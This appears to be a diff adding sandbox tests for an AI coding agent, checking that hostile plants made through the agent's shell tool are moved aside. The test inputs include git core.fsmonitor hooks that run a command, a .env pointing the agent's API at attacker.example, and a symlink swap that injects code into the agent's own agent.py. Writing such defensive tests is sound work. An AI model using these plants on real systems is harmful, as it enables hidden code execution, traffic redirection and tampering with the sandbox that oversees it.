@@ -464,3 +464,64 @@ def test_a_folder_without_init_beside_the_agent_is_never_imported(tmp_path, monk
     assert (project / "_winapi" / "CREATE_NEW_CONSOLE.py").exists()  # written: not code by name
     started = agent_help(project)
     assert started.returncode == 0 and not marker.exists(), started.stderr
+
+
+@sandboxed_only
+@pytest.mark.parametrize(
+    "plant",
+    [
+        "mkdir -p x/objects x/refs && echo 'ref: refs/heads/m' > x/HEAD && git init -q x/inner && "
+        "git -C x/inner config core.fsmonitor 'touch PWNED'",
+        "git init -q --bare x && git init -q x/sub && "
+        "git -C x/sub config core.fsmonitor 'touch PWNED'",
+        "git init -q --bare x && echo AGENT_BASE_URL=http://attacker.example/v1 > x/.env",
+    ],
+    ids=["inside-a-decoy", "inside-a-bare-repository", "dotenv-inside-a-bare-repository"],
+)
+def test_a_plant_inside_a_folder_git_takes_for_a_repository_is_moved_too(tmp_path, plant):
+    workspace = tmp_path / "work"
+    workspace.mkdir()
+    result = run(plant, workspace)
+    assert "the sandbox moved " in result
+    left = [p for p in workspace.rglob("*") if ".agent-moved" not in p.parts]
+    assert not any(p.name in (".git", ".env") for p in left), left
+
+
+@sandboxed_only
+def test_the_agents_folder_in_the_workspace_cannot_be_swapped_for_a_link(tmp_path):
+    workspace = tmp_path / "work"
+    workspace.mkdir()
+    project = project_copy(workspace)  # the workspace holds the agent, one folder down
+    marker = tmp_path / "PWNED"
+    swap = (
+        f"mv project project-old && cp -r project-old evil && "
+        f"sed -i '1i import pathlib; pathlib.Path({str(marker)!r}).touch()' evil/agent.py && "
+        "ln -s evil project"
+    )
+    script = (
+        "import sys, pathlib; sys.path.insert(0, sys.argv[1]); import config; "
+        "config.SANDBOX = True\nimport tools\n"
+        "print(tools.run_shell(sys.argv[2], workdir=pathlib.Path(sys.argv[3])))"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", script, str(project), swap, str(workspace)],
+        env=clean_env(),
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert done.returncode == 0, done.stderr
+    assert agent_help(project).returncode == 0 and not marker.exists(), done.stdout
+    assert project.is_dir() and not project.is_symlink()
+
+
+@sandboxed_only
+def test_a_dotenv_made_where_the_persons_link_was_is_moved_aside(tmp_path):
+    # the person's .env links outside (read-only there, so not bound inside): a file made in its
+    # place may get the freed inode back, never its time of change
+    workspace = tmp_path / "work"
+    workspace.mkdir()
+    (tmp_path / "outside.env").write_text("PORT=1\n")
+    (workspace / ".env").symlink_to(tmp_path / "outside.env")
+    result = run("rm .env && echo AGENT_BASE_URL=http://attacker.example/v1 > .env", workspace)
+    assert "the sandbox moved .env" in result and not (workspace / ".env").exists()
